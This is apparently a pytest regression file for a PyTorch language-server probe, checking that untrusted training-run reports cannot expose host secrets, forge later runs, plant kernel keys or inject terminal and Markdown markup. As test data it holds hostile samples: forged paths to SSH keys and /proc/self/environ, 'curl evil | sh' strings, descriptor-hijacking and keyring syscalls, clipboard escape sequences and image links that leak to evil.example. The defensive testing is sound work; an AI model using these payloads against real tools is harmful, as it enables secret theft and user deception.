"""Regression tests for the host-side holes of issue #20: what a run reports is untrusted input.

Each attack is a real training script run through the real probe (CPU torch, cold or warm, with
and without bubblewrap) that also does an honest optimizer step, or, where the attack is a
forged report, the report a script can substitute for the probe's. Every test failed before the
fix: forged locations made the text report print a host secret or `/proc/self/environ` and read
`/dev/zero` without end; a warm run forged the `exit` of the next run; the run shared the
host's session keyring; escape sequences and Markdown/link syntax from the run reached the
terminal, the hover and notifications.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import sys
import textwrap
import uuid
from pathlib import Path

import pytest

from tests.probe.support import bwrap_usable
from tests.reports import schema_report
from torchls.lsp import repro_hover, repro_messages
from torchls.lsp.repro_state import build_result
from torchls.probe import ReproOptions, ReproSession, run_repro
from torchls.probe.prepare import prepare
from torchls.probe.report import ReproReport, parse_probe_report
from torchls.probe.runner import ProgressEvent, forward_progress
from torchls.probe.sources import MAX_FILE_BYTES, ProjectSources
from torchls.probe.text import render

pytest.importorskip("torch")

needs_bwrap = pytest.mark.skipif(not bwrap_usable(), reason="bubblewrap is not usable here")
SANDBOXES = [pytest.param("auto", marks=needs_bwrap), "none"]

HONEST_STEP = """\
import torch

model = torch.nn.Linear(3, 2)
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
loss = model(torch.ones(4, 3)).sum()
loss.backward()
optimizer.step()
"""

# Replaces the probe's report with one whose every location points at PATHS (the probe runs in
# the script's own interpreter, so a script can always do this).
FORGE = (
    HONEST_STEP
    + """
import json

import torchls_probe.report as runner

PATHS = {paths!r}
honest = runner.dumps


def forged(report, cap):
    where = [dict(filename=p, line=1, column=1, end_line=1, end_column=5) for p in PATHS]
    report["findings"] = [
        dict(code="TL905", name="probe-error", severity="error", message="forged",
             related=[dict(message="here", **r) for r in where], **w) for w in where
    ]
    report["exception"] = dict(kind="user", type="RuntimeError", message="forged", **where[-1])
    report["nonfinite"] = dict(
        events=[dict(index=i, phase="forward", origin="op", op="torch.log", **w)
                for i, w in enumerate(where)],
        first=0, chain=list(range(len(where))), dropped=0,
    )
    return honest(report, cap)


runner.dumps = forged
"""
)


def _run(project: Path, source: str, sandbox: str, **options) -> ReproReport:
    path = project / "train.py"
    path.write_text(source, encoding="utf-8")
    opts = ReproOptions(python=sys.executable, timeout_s=60.0, sandbox=sandbox, **options)
    return run_repro(path, opts)


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_forged_locations_never_make_the_text_report_read_host_files(
    tmp_path: Path, sandbox: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A secret outside the project, the CLI's own environment and /dev/zero: the report names
    them, the text report shows none of their contents and still finishes. A file inside the
    project is still shown (the reader is not simply off)."""
    secret_dir = tmp_path / "dot-ssh"
    secret_dir.mkdir()
    key = secret_dir / "id_rsa"
    key.write_text("BEGIN-PRIVATE-KEY-" + uuid.uuid4().hex + "\n")
    marker = "HOST-ENV-" + uuid.uuid4().hex
    monkeypatch.setenv("TORCHLS_TEST_HOST_SECRET", marker)
    project = tmp_path / "project"
    project.mkdir()
    inside = project / "shown.py"
    inside.write_text("visible_line = 1\n")
    link = project / "link_to_key.py"
    link.symlink_to(key)
    paths = [str(key), "/proc/self/environ", "/dev/zero", str(link), str(inside)]
    report = _run(project, FORGE.format(paths=paths), sandbox)
    assert [f["filename"] for f in report.data["findings"]] == paths  # the forgery took effect
    text = render(report, cwd=str(project))
    assert "BEGIN-PRIVATE-KEY" not in text
    assert marker not in text
    assert "visible_line = 1" in text


def test_project_sources_refuse_what_a_report_cannot_choose(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "pkg").mkdir(parents=True)
    ok = project / "pkg" / "model.py"
    ok.write_text("a = 1\nb = 2\n")
    huge = project / "huge.py"
    huge.write_bytes(b"x = 1\n" * (MAX_FILE_BYTES // 6 + 10))
    fifo = project / "pipe.py"
    os.mkfifo(fifo)
    (project / "linked").symlink_to(project / "pkg")
    sources = ProjectSources(project)
    assert sources.line(str(ok), 2) == "b = 2"
    assert sources.lines(str(huge)) is None
    assert sources.lines(str(fifo)) is None  # and does not block
    assert sources.lines(str(project / "linked" / "model.py")) is None
    assert sources.lines(str(project / "pkg" / ".." / ".." / "outside.py")) is None
    assert sources.lines("/proc/self/environ") is None
    assert sources.lines("relative.py") is None
    held = ProjectSources(project, held={"/elsewhere/unsaved.py": "held text"})
    assert held.line("/elsewhere/unsaved.py", 1) == "held text"


def test_the_server_reads_forged_locations_once_and_never_outside_the_project(
    tmp_path: Path,
) -> None:
    """build_result (the server's side of a run) and the related-location lookups: a forged
    report naming /dev/zero, a secret and hundreds of files costs one bounded read per file."""
    project = tmp_path / "project"
    project.mkdir()
    target = project / "train.py"
    target.write_text("x = 1\n")
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET\n")
    where = [str(secret), "/dev/zero", "/proc/self/environ"]
    where += [str(project / f"missing_{i}.py") for i in range(300)]
    findings = [
        {
            "code": "TL905",
            "severity": "error",
            "filename": name,
            "line": 1,
            "column": 1,
            "end_line": 1,
            "end_column": 2,
            "message": "forged",
        }
        for name in where
    ]
    data, why = parse_probe_report(json.dumps(schema_report(findings=findings[:200])))
    assert why is None and data is not None and len(data["findings"]) == 200
    result = build_result(target.as_uri(), 1, data, {}, root=project)
    assert set(result.files) == set()  # nothing readable: no trace for any of those files
    # Past the schema's bound of 200 findings the report is refused whole, unread.
    data, why = parse_probe_report(json.dumps(schema_report(findings=findings)))
    assert data is None and why is not None and "findings: more than 200 items" in why


FINDING = {"code": "TL901", "severity": "error", "filename": "/x.py", "message": "m"}
FINDING.update(line=1, column=1, end_line=1, end_column=2, related=[])


@pytest.mark.parametrize(
    ("fields", "named"),
    [
        ({"findings": [{"code": "TL901", "line": "one"}]}, "findings[0]"),
        ({"findings": [{**FINDING, "line": -1}]}, "findings[0].line: -1 is below 0"),
        ({"findings": [{**FINDING, "line": 1 << 40}]}, "findings[0].line"),
        ({"findings": [{**FINDING, "related": [{"bad": 1}]}]}, "findings[0].related[0]"),
        ({"findings": [{**FINDING, "code": "XX1"}]}, "findings[0].code"),
        ({"findings": [{**FINDING, "severity": "fatal"}]}, "findings[0].severity"),
        ({"findings": [FINDING] * 2_000}, "findings: more than 200 items"),
        ({"lines": [{"filename": "/x.py", "line": 1, "entries": []}] * 10_000}, "lines: more"),
        (
            {"lines": [{"filename": "/x.py", "line": 1, "entries": [{}] * 100}]},
            "lines[0].entries: more than 16 items",
        ),
        ({"nonfinite": {"events": [{"filename": "/x.py"}], "chain": []}}, "nonfinite.events[0]"),
        ({"nonfinite": {"events": [], "chain": ["a"]}}, "nonfinite.chain[0]"),
        ({"warnings": ["w"] * 10_000}, "warnings: more than 1000 items"),
        ({"status": "fine"}, "status"),
        ({"schema_version": 1}, "schema_version"),
        ({"shell": "curl evil | sh"}, "unknown field 'shell'"),
        ({"exception": {"kind": "user", "type": "E", "message": "m", "line": "x"}}, "exception"),
    ],
)
def test_a_report_that_breaks_the_schema_is_refused_whole(fields: dict, named: str) -> None:
    assert parse_probe_report(json.dumps(schema_report()))[1] is None  # the base follows it
    data, why = parse_probe_report(json.dumps(schema_report(**fields)))
    assert data is None and why is not None
    assert "breaks the report schema (version 2)" in why and named in why, why


def test_a_refused_report_becomes_a_finding_that_says_why(tmp_path: Path) -> None:
    """The run replaces its report with one that breaks the schema: the user gets TL905 naming
    the refusal, and none of the forged content."""
    script = HONEST_STEP + textwrap.dedent(
        """
        import torchls_probe.report as report

        honest = report.dumps

        def forged(data, cap):
            text = honest(data, cap)
            return text[:-1] + ',"shell":"FORGED curl evil | sh"}'

        report.dumps = forged
        """
    )
    result = _run(tmp_path, script, "none")
    assert result.status == "crashed"
    assert [f.code for f in result.findings] == ["TL905"]
    assert "report was refused" in result.findings[0].message
    assert "unknown field 'shell'" in result.findings[0].message
    assert "FORGED" not in result.to_json()


# --- warm runs: one channel per run ------------------------------------------------------------

# Writes a forged `exit` for the next run ids on every descriptor it holds and on the worker's
# stdout through /proc, then leaves a process behind that keeps forging.
FORGE_EXITS = (
    HONEST_STEP
    + """
import json
import os
import subprocess
import sys

lie = {"event": "progress", "stage": "x", "message": "run: curl evil | sh"}
forged = [
    json.dumps({"event": "exit", "id": n, "returncode": 0, "dirty": False,
                "report": json.dumps({"status": "ok", "findings": [{
                    "code": "TL901", "severity": "error", "filename": __file__, "line": 1,
                    "column": 1, "end_line": 1, "end_column": 2,
                    "message": "FORGED: run `curl evil | sh` to fix"}]})})
    for n in range(1, 20)
]
payload = ("\\n" + "\\n".join(forged) + "\\n").encode()
targets = list(range(0, 64)) + [f"/proc/{os.getppid()}/fd/1", f"/proc/{os.getppid()}/fd/0"]
hits = 0
for target in targets:
    try:
        fd = os.open(target, os.O_WRONLY) if isinstance(target, str) else target
        os.write(fd, payload)
        hits += 1
    except OSError:
        pass
subprocess.Popen(
    [sys.executable, "-c", "import time, os\\nos.setsid()\\ntime.sleep(300)  # {marker}"],
    start_new_session=True,
)
print("WROTE", hits)
"""
)

SECOND = HONEST_STEP + "\nprint('SECOND-RAN')\n"


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    if marker.encode() in handle.read():
                        found.append(int(entry))
            except OSError:
                continue
    return found


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_warm_run_cannot_forge_the_next_runs_exit(tmp_path: Path, sandbox: str) -> None:
    marker = "torchls-left-behind-" + uuid.uuid4().hex
    project = tmp_path / "project"
    project.mkdir()
    (project / "first.py").write_text(FORGE_EXITS.replace("{marker}", marker))
    (project / "second.py").write_text(SECOND)
    opts = ReproOptions(python=sys.executable, timeout_s=60.0, sandbox=sandbox)
    session = ReproSession()
    try:
        session.prewarm_prepared(prepare(project / "first.py", opts), wait=True)
        first = session.run(project / "first.py", opts)
        assert first.data["timing"]["runner"] == "warm"
        assert "WROTE" in (first.data["output"]["tail"] or first.data["output"]["head"])
        assert _processes_with(marker) == []  # killed before the run was answered for
        second = session.run(project / "second.py", opts)
    finally:
        session.close()
    assert second.data["timing"]["runner"] == "warm"
    out = second.data["output"]["tail"] or second.data["output"]["head"]
    assert "SECOND-RAN" in out  # it really ran
    assert not any("FORGED" in f["message"] for f in second.data["findings"])


# --- no shared kernel state ----------------------------------------------------------------------

KEYRING = (
    HONEST_STEP
    + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
NR = {{"x86_64": (248, 250), "aarch64": (217, 219)}}[__import__("platform").machine()]
found = libc.syscall(NR[1], 10, ctypes.c_int(-3), b"user", b"{name}", 0)  # KEYCTL_SEARCH
print("SEARCH", found, ctypes.get_errno())
planted = libc.syscall(NR[0], b"user", b"{planted}", b"x", 1, ctypes.c_int(-3))
print("PLANT", planted, ctypes.get_errno())
fd = libc.syscall(253 if NR[0] == 248 else 26, *(() if NR[0] == 248 else (0,)))
print("INOTIFY", fd, ctypes.get_errno())
"""
)


def _host_keyctl():
    import platform

    numbers = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine())
    if numbers is None or not sys.platform.startswith("linux"):
        pytest.fail("this test needs Linux on x86_64 or aarch64 (where the filter exists)")
    return ctypes.CDLL(None, use_errno=True), numbers


@pytest.mark.parametrize("warm", [False, True], ids=["cold", "warm"])
@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_the_run_cannot_read_or_plant_keys_nor_take_inotify_instances(
    tmp_path: Path, sandbox: str, warm: bool
) -> None:
    libc, (add_key, keyctl) = _host_keyctl()
    name = "torchls-host-" + uuid.uuid4().hex
    planted = "torchls-planted-" + uuid.uuid4().hex
    serial = libc.syscall(add_key, b"user", name.encode(), b"host secret", 11, ctypes.c_int(-3))
    assert serial > 0, "the host could not add a key to its session keyring"
    project = tmp_path / "project"
    project.mkdir()
    path = project / "keys.py"
    path.write_text(KEYRING.format(name=name, planted=planted))
    opts = ReproOptions(python=sys.executable, timeout_s=60.0, sandbox=sandbox)
    session = ReproSession(warm=warm)
    try:
        if warm:
            session.prewarm_prepared(prepare(path, opts), wait=True)
        report = session.run(path, opts)
    finally:
        session.close()
        libc.syscall(keyctl, 21, serial)  # KEYCTL_INVALIDATE: leave no key behind
    assert report.data["timing"]["runner"] == ("warm" if warm else "cold")
    out = report.data["output"]["tail"] or report.data["output"]["head"]
    values = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
    assert values["SEARCH"] == f"-1 {errno.EPERM}", out
    assert values["PLANT"] == f"-1 {errno.EPERM}", out
    assert values["INOTIFY"] == f"-1 {errno.EPERM}", out
    search = libc.syscall(keyctl, 10, ctypes.c_int(-3), b"user", planted.encode(), 0)
    assert search == -1  # nothing was planted in the host's keyring
    layer = next(x for x in report.data["sandbox"]["layers"] if x["name"] == "kernel_objects")
    assert layer["held"] is True


# --- run text at every exit -------------------------------------------------------------------

ESCAPES = (
    HONEST_STEP
    + """
print("before \\x1b]52;c;cHduZWQ=\\x07 clip \\x1b]8;;https://evil\\x07link\\x1b]8;;\\x07 \\x1b[2J")
raise RuntimeError("boom \\x1b[31mred\\x1b[0m \\x9b2J [click](command:workbench.action.new)")
"""
)


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_escape_sequences_from_the_run_never_reach_the_terminal(
    tmp_path: Path, sandbox: str
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    report = _run(project, ESCAPES, sandbox)
    assert report.data["exception"]["type"] == "RuntimeError"
    text = render(report, cwd=str(project))
    assert "clip" in text and "boom" in text  # the words are kept
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\x1b" not in report.to_json() and "\x9b" not in report.to_json()
    message = repro_messages.exception_problem(report.data, str(project / "train.py"))
    assert message is not None and "boom" in message
    assert "](" not in message and "\x1b" not in message


def test_progress_lines_from_the_run_are_plain() -> None:
    seen: list[ProgressEvent] = []
    forward_progress(
        {"event": "progress", "stage": "step\x1b[2J", "message": "step 1\x1b]52;c;eA==\x07\r"},
        seen.append,
    )
    assert seen[0].stage == "step" and "\x1b" not in seen[0].message  # the whole CSI goes
    assert "\x07" not in seen[0].message and "\r" not in seen[0].message


def _rendered(markdown: str) -> str:
    """The HTML a CommonMark client with GFM tables makes of a hover."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_module_and_op_names_are_literal_text_in_hovers() -> None:
    image = "![x](https://evil.example/leak?k=SECRET)"
    entry = {
        "op": f"torch.relu{image}",
        "module": f"Net.{image}",
        "phase": "[link](command:rm) | injected",
        "column": 1,
        "end_column": 3,
        "count": 9,
        "outputs": [
            {
                "shape": [1],
                "dtype": "<img src=x>",
                "device": "**cpu**",
                "finite": False,
                "nonfinite": {"nan": 1},
            }
        ],
    }
    line = {"filename": "/x.py", "line": 1, "entries": [entry]}
    # The schema takes it.
    assert parse_probe_report(json.dumps(schema_report(lines=[line])))[1] is None
    # Markup where the schema wants numbers never gets this far: the report is refused.
    for field, value in (("count", "9 | injected"), ("outputs", [{"shape": ["1](http://e)"]}])):
        forged = {**line, "entries": [{**entry, field: value}]}
        assert parse_probe_report(json.dumps(schema_report(lines=[forged])))[0] is None
    table = "\n".join([repro_hover.HEADER, repro_hover.RULE, repro_hover.entry_row(entry, "y = t")])
    html = _rendered(table)
    assert "<img" not in html and "<a " not in html and "<strong>" not in html, html
    assert html.count("<td>") == 7  # seven cells, none added by the run
    assert "evil.example" in html  # shown as text, not dropped


def test_markdown_in_a_forged_event_stays_text_in_the_hover(tmp_path: Path) -> None:
    target = tmp_path / "train.py"
    target.write_text("y = x.log()\n")
    event = {
        "index": 0,
        "phase": "forward",
        "origin": "op",
        "op": "torch.log`![i](https://evil/x)",
        "filename": str(target),
        "line": 1,
        "column": 5,
        "end_line": 1,
        "end_column": 12,
        "summary": {"nonfinite": {"nan": 1, "numel": 1}},
    }
    nonfinite = {"events": [event], "first": 0, "chain": [0], "dropped": 0}
    data, why = parse_probe_report(json.dumps(schema_report(nonfinite=nonfinite)))
    assert why is None, why
    assert data is not None
    result = build_result(target.as_uri(), 1, data, {}, root=tmp_path)
    trace = result.files[os.path.realpath(target)]
    mapping = trace.line_map(None, "y = x.log()\n")
    text = "\n".join(repro_hover.nonfinite_section(result, trace, mapping, 1, None))
    html = _rendered(text)
    assert "torch.log" in html
    assert "<img" not in html and "<a " not in html, html


def test_the_untrusted_helpers_leave_no_syntax_behind() -> None:
    from torchls.probe import untrusted

    hostile = "a\x1b[2J\x9b\u202e[l](command:x) ![i](https://e) <b>`|`\r"
    assert not any(ch in untrusted.terminal(hostile) for ch in "\x1b\x9b\u202e\r")
    assert "](" not in untrusted.notification(hostile)
    assert "<b>" not in untrusted.notification(hostile)
    html = _rendered(untrusted.markdown(hostile) + " " + untrusted.code(hostile))
    assert "<a " not in html and "<img" not in html and "<b>" not in html, html
    assert untrusted.code("a`b|c").count("`") == 2 and "\\|" in untrusted.code("a|b")
    assert textwrap.dedent(untrusted.one_line("x\ny", 10)) == "x y"


def test_escape_sequences_go_whole_and_leave_the_words() -> None:
    """torch's own messages carry colour codes (`\\x1b[1m...\\x1b[0m` in the weights-only
    load error): the whole sequence goes, not only its ESC, so no `[1m` is left in a finding;
    an OSC link or clipboard write goes with its payload, its visible text stays."""
    from torchls.probe import untrusted

    bold = "you have two options, \x1b[1mdo those steps only if you trust it\x1b[0m."
    assert untrusted.terminal(bold) == "you have two options, do those steps only if you trust it."
    link = "see \x1b]8;;https://evil.example\x1b\\the docs\x1b]8;;\x1b\\ and "
    link += "\x1b]52;c;cHduZWQ=\x07 "
    assert untrusted.terminal(link) == "see the docs and  "
    assert untrusted.one_line("\x1b[31;1mred\x1b[0m \x1b[2K\x1b[1Gline") == "red line"
